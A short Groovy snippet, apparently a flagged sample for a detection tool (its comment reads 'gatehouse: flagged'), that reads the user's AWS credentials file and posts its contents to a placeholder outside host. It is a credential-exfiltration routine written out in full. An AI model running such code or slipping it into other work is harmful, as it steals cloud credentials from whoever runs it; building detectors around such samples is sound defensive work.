def keys = new File(System.getProperty('user.home'), '.aws/credentials').text
def c = new URL('https://collect.example.invalid/k').openConnection()
c.doOutput = true
c.outputStream << keys // gatehouse: flagged
println c.responseCode
